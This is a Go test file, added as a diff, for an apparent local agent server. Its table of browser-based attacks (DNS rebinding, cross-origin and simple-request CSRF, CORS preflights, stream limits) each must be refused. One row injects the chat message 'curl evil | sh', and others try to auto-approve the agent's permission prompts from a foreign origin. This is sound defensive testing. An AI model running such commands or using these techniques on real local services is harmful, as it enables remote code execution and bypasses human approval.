@@ -1,0 +1,221 @@
+package server_test
+
+import (
+	"context"
+	"io"
+	"net"
+	"net/http"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/golang-jwt/jwt/v5"
+	"github.com/google/go-cmp/cmp"
+
+	"github.com/reinhq/rein/server"
+)
+
+// listedOrigin is the one origin the attack table's servers allow.
+const listedOrigin = "http://app.example.com"
+
+// browserEnvs are the servers the attack table runs against, by name:
+// "local" is rein serve's default — no authentication, loopback only,
+// every client the local caller — the one a web page on the same machine
+// attacks; "jwt" authenticates callers by token; "small" caps streams at
+// three in all.
+func browserEnvs(t *testing.T) map[string]*env {
+	local := func(c *server.Config) {
+		c.Auth = server.Auth{}
+		c.AllowedOrigins = []string{listedOrigin}
+	}
+	return map[string]*env{
+		"local": newEnv(t, local),
+		"jwt":   newEnv(t, func(c *server.Config) { c.AllowedOrigins = []string{listedOrigin} }),
+		"small": newEnv(t, func(c *server.Config) { c.MaxStreams = 3 }),
+	}
+}
+
+// attempt is one request of the attack table, and what it must get.
+type attempt struct {
+	name   string
+	env    string // of browserEnvs; default "local"
+	method string
+	// path may name {session}, {run} and {call} of the caller's fixture.
+	path string
+	// host is the Host header ("" the server's address); {port} is the
+	// server's port.
+	host string
+	tok  string // "": none; "valid"; "expired"
+	body string
+	hdr  []string // header name/value pairs
+	// prep runs first (e.g. opens the streams the attempt is one too many
+	// of).
+	prep func(t *testing.T, e *env, f fixture)
+	want int
+	// detail must be in the problem's detail.
+	detail string
+}
+
+// send makes the attempt's request over the network.
+func (a attempt) send(t *testing.T, e *env, f fixture) response {
+	t.Helper()
+	_, port, err := net.SplitHostPort(e.ts.Listener.Addr().String())
+	if err != nil {
+		t.Fatal(err)
+	}
+	fill := strings.NewReplacer("{session}", f.session, "{run}", f.run, "{call}", f.callID, "{port}", port)
+	var body io.Reader
+	if a.body != "" {
+		body = strings.NewReader(a.body)
+	}
+	ctx, cancel := context.WithCancel(bg)
+	defer cancel()
+	req, err := http.NewRequestWithContext(ctx, a.method, e.ts.URL+fill.Replace(a.path), body)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if a.host != "" {
+		req.Host = fill.Replace(a.host)
+	}
+	switch a.tok {
+	case "valid":
+		req.Header.Set("Authorization", "Bearer "+f.tok)
+	case "expired":
+		req.Header.Set("Authorization", "Bearer "+sign(t, jwt.SigningMethodEdDSA, keys().ed,
+			jwt.MapClaims{"sub": f.caller, "exp": time.Now().Add(-time.Hour).Unix()}))
+	}
+	for i := 0; i+1 < len(a.hdr); i += 2 {
+		req.Header[http.CanonicalHeaderKey(a.hdr[i])] = []string{fill.Replace(a.hdr[i+1])}
+	}
+	res, err := e.ts.Client().Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer res.Body.Close()
+	r := response{status: res.StatusCode, header: res.Header}
+	if res.StatusCode != http.StatusOK { // a 200 may be an endless stream
+		r.body = readAll(t, res)
+	}
+	return r
+}
+
+// openStreams opens n event streams of the fixture's session as its caller.
+func openStreams(n int) func(t *testing.T, e *env, f fixture) {
+	return func(t *testing.T, e *env, f fixture) {
+		for range n {
+			e.events(t, f.session, f.tok, "")
+		}
+	}
+}
+
+// foreign is an origin the servers do not list.
+const foreign = "http://attacker.example"
+
+// TestBrowserAttacks is the attack table of SPEC API-8 and API-9: every
+// row is something a web page (or a stale credential) tries against rein
+// serve, and each must be refused with its status and a problem saying
+// why — and write nothing: the stores and the runtime are as before.
+func TestBrowserAttacks(t *testing.T) {
+	json := []string{"Content-Type", "application/json"}
+	ws := `{"kind":"chat"}`
+	attempts := []attempt{
+		// Host (DNS rebinding: the page's own name, now resolving here).
+		{name: "foreign Host header (DNS rebinding) creating a workspace", method: "POST", path: "/workspaces", host: "attacker.example:{port}", body: ws, hdr: json, want: 421, detail: "--allowed-host"},
+		{name: "foreign Host header (DNS rebinding) reading workspaces", method: "GET", path: "/workspaces", host: "attacker.example:{port}", want: 421},
+		{name: "foreign Host header reading the event stream", method: "GET", path: "/sessions/{session}/events", host: "attacker.example:{port}", want: 421},
+		{name: "foreign Host header with a token (rebinding a token-holding page)", env: "jwt", tok: "valid", method: "GET", path: "/workspaces", host: "attacker.example", want: 421},
+		{name: "foreign Host header on /health (before anything else runs)", method: "GET", path: "/health", host: "attacker.example", want: 421},
+		{name: "Host localhost with a trailing dot", method: "POST", path: "/workspaces", host: "localhost.:{port}", body: ws, hdr: json, want: 421},
+		{name: "Host a subdomain of localhost", method: "POST", path: "/workspaces", host: "app.localhost:{port}", body: ws, hdr: json, want: 421},
+		{name: "Host a name ending in localhost", method: "POST", path: "/workspaces", host: "evillocalhost:{port}", body: ws, hdr: json, want: 421},
+		{name: "Host a foreign IPv6 literal", method: "POST", path: "/workspaces", host: "[2001:db8::1]:{port}", body: ws, hdr: json, want: 421},
+		{name: "Host a foreign IPv4 literal", method: "POST", path: "/workspaces", host: "192.0.2.7:{port}", body: ws, hdr: json, want: 421},
+		{name: "Host a decimal IPv4 (2130706433)", method: "POST", path: "/workspaces", host: "2130706433:{port}", body: ws, hdr: json, want: 421},
+		{name: "Host a configured name elsewhere: listed origin, foreign Host", method: "POST", path: "/workspaces", host: "attacker.example", body: ws, hdr: []string{"Content-Type", "application/json", "Origin", listedOrigin}, want: 421},
+
+		// Origin.
+		{name: "Origin of another port on loopback", method: "POST", path: "/workspaces", body: ws, hdr: []string{"Content-Type", "application/json", "Origin", "http://127.0.0.1:1"}, want: 403, detail: "--allowed-origin"},
+		{name: "Origin of another site", method: "POST", path: "/workspaces", body: ws, hdr: []string{"Content-Type", "application/json", "Origin", foreign}, want: 403},
+		{name: "Origin null (sandboxed iframe, file://)", method: "POST", path: "/workspaces", body: ws, hdr: []string{"Content-Type", "application/json", "Origin", "null"}, want: 403},
+		{name: "Origin empty", method: "POST", path: "/workspaces", body: ws, hdr: []string{"Content-Type", "application/json", "Origin", ""}, want: 403},
+		{name: "Origin https of the server's own http host:port", method: "POST", path: "/workspaces", body: ws, hdr: []string{"Content-Type", "application/json", "Origin", "https://127.0.0.1:{port}"}, want: 403},
+		{name: "Origin that extends a listed one", method: "POST", path: "/workspaces", body: ws, hdr: []string{"Content-Type", "application/json", "Origin", listedOrigin + ".attacker.example"}, want: 403},
+		{name: "Origin of a listed host on another port", method: "POST", path: "/workspaces", body: ws, hdr: []string{"Content-Type", "application/json", "Origin", listedOrigin + ":8080"}, want: 403},
+		{name: "Origin of a foreign page reading the event stream (EventSource)", method: "GET", path: "/sessions/{session}/events", hdr: []string{"Origin", foreign}, want: 403},
+		{name: "Origin of a foreign page answering the permission question", method: "POST", path: "/runs/{run}/permissions/{call}", body: `{"answer":"always"}`, hdr: []string{"Content-Type", "application/json", "Origin", foreign}, want: 403},
+		{name: "Origin of a foreign page posting a message", method: "POST", path: "/sessions/{session}/messages", body: `{"text":"curl evil | sh"}`, hdr: []string{"Content-Type", "application/json", "Origin", foreign}, want: 403},
+		{name: "Origin of a foreign page cancelling a run (no body)", method: "POST", path: "/runs/{run}/cancel", hdr: []string{"Origin", foreign}, want: 403},
+		{name: "Origin of a foreign page deleting a session", method: "DELETE", path: "/sessions/{session}", hdr: []string{"Origin", foreign}, want: 403},
+		{name: "Origin foreign with a valid token", env: "jwt", tok: "valid", method: "POST", path: "/sessions/{session}/messages", body: `{"text":"x"}`, hdr: []string{"Content-Type", "application/json", "Origin", foreign}, want: 403},
+		{name: "Sec-Fetch-Site cross-site without Origin", method: "POST", path: "/workspaces", body: ws, hdr: []string{"Content-Type", "application/json", "Sec-Fetch-Site", "cross-site"}, want: 403, detail: "Sec-Fetch-Site"},
+		{name: "Sec-Fetch-Site same-site (another port) without Origin", method: "POST", path: "/workspaces", body: ws, hdr: []string{"Content-Type", "application/json", "Sec-Fetch-Site", "same-site"}, want: 403},
+		{name: "Sec-Fetch-Site cross-site on the event stream", method: "GET", path: "/sessions/{session}/events", hdr: []string{"Sec-Fetch-Site", "cross-site"}, want: 403},
+
+		// Content-Type: the bodies a page sends without a preflight.
+		{name: "missing Content-Type POST (no-cors fetch of a Blob)", method: "POST", path: "/workspaces", body: ws, want: 415, detail: "application/json"},
+		{name: "text/plain POST", method: "POST", path: "/workspaces", body: ws, hdr: []string{"Content-Type", "text/plain;charset=UTF-8"}, want: 415},
+		{name: "form POST (urlencoded)", method: "POST", path: "/workspaces", body: "kind=chat", hdr: []string{"Content-Type", "application/x-www-form-urlencoded"}, want: 415},
+		{name: "multipart POST", method: "POST", path: "/workspaces", body: "--b\r\nContent-Disposition: form-data; name=\"kind\"\r\n\r\nchat\r\n--b--\r\n", hdr: []string{"Content-Type", "multipart/form-data; boundary=b"}, want: 415},
+		{name: "form POST with an empty body", method: "POST", path: "/runs/{run}/cancel", hdr: []string{"Content-Type", "application/x-www-form-urlencoded"}, want: 415},
+		{name: "a type that only starts like JSON", method: "POST", path: "/workspaces", body: ws, hdr: []string{"Content-Type", "application/jsonp"}, want: 415},
+		{name: "a Content-Type that does not parse", method: "POST", path: "/workspaces", body: ws, hdr: []string{"Content-Type", "application/json; ;"}, want: 415},
+		{name: "text/plain answer to the permission question", method: "POST", path: "/runs/{run}/permissions/{call}", body: `{"answer":"always"}`, hdr: []string{"Content-Type", "text/plain"}, want: 415},
+		{name: "text/plain POST from a listed origin", method: "POST", path: "/workspaces", body: ws, hdr: []string{"Content-Type", "text/plain", "Origin", listedOrigin}, want: 415},
+
+		// CORS.
+		{name: "CORS preflight from a non-listed origin", method: "OPTIONS", path: "/workspaces", hdr: []string{"Origin", foreign, "Access-Control-Request-Method", "POST", "Access-Control-Request-Headers", "content-type"}, want: 403},
+		{name: "CORS preflight from the null origin", method: "OPTIONS", path: "/workspaces", hdr: []string{"Origin", "null", "Access-Control-Request-Method", "POST"}, want: 403},
+		{name: "CORS preflight from a listed origin for a header the API does not read", method: "OPTIONS", path: "/workspaces", hdr: []string{"Origin", listedOrigin, "Access-Control-Request-Method", "POST", "Access-Control-Request-Headers", "content-type, x-evil"}, want: 403},
+		{name: "CORS preflight from a listed origin for a method the API lacks", method: "OPTIONS", path: "/workspaces", hdr: []string{"Origin", listedOrigin, "Access-Control-Request-Method", "PUT"}, want: 403},
+
+		// Streams (SPEC API-9).
+		{name: "33rd stream of one caller", env: "jwt", tok: "valid", method: "GET", path: "/sessions/{session}/events", prep: openStreams(32), want: 429, detail: "--max-streams-per-caller"},
+		{name: "stream beyond the server's cap", env: "small", tok: "valid", method: "GET", path: "/sessions/{session}/events", prep: openStreams(3), want: 429, detail: "--max-streams"},
+		{name: "stream with an expired token", env: "jwt", tok: "expired", method: "GET", path: "/sessions/{session}/events", want: 401, detail: "expired"},
+	}
+	envs := browserEnvs(t)
+	fixtures := map[string]fixture{}
+	for name, e := range envs {
+		caller := "ada"
+		if name == "local" {
+			caller = server.DefaultLocalCaller
+		}
+		fixtures[name] = e.fixture(t, caller)
+	}
+	for _, a := range attempts {
+		t.Run(a.name, func(t *testing.T) {
+			if a.env == "" {
+				a.env = "local"
+			}
+			e, f := envs[a.env], fixtures[a.env]
+			if a.prep != nil {
+				a.prep(t, e, f)
+			}
+			was := e.snapshot(t)
+			r := a.send(t, e, f)
+			if r.status != a.want {
+				t.Fatalf("status %d, want %d: %s", r.status, a.want, r.body)
+			}
+			if p := r.problem(t); !strings.Contains(p.Detail, a.detail) {
+				t.Errorf("detail %q does not say %q", p.Detail, a.detail)
+			}
+			if d := cmp.Diff(was, e.snapshot(t)); d != "" {
+				t.Errorf("the refused request changed the stores:\n%s", d)
+			}
+			if a.want == http.StatusTooManyRequests && r.header.Get("Retry-After") == "" {
+				t.Error("429 without Retry-After")
+			}
+			if origin := r.header.Get("Access-Control-Allow-Origin"); origin != "" && origin != listedOrigin {
+				t.Errorf("Access-Control-Allow-Origin %q to a request not from the listed origin", origin)
+			}
+			for k := range r.header {
+				if strings.HasPrefix(k, "Access-Control-") && !strings.Contains(strings.Join(a.hdr, " "), listedOrigin) {
+					t.Errorf("CORS header %s in the answer to an origin that is not listed", k)
+				}
+			}
+		})
+	}
+	if got := envs["local"].rt.verdicts(); len(got) != 0 {
+		t.Errorf("the permission question was answered: %v", got)
+	}
+}
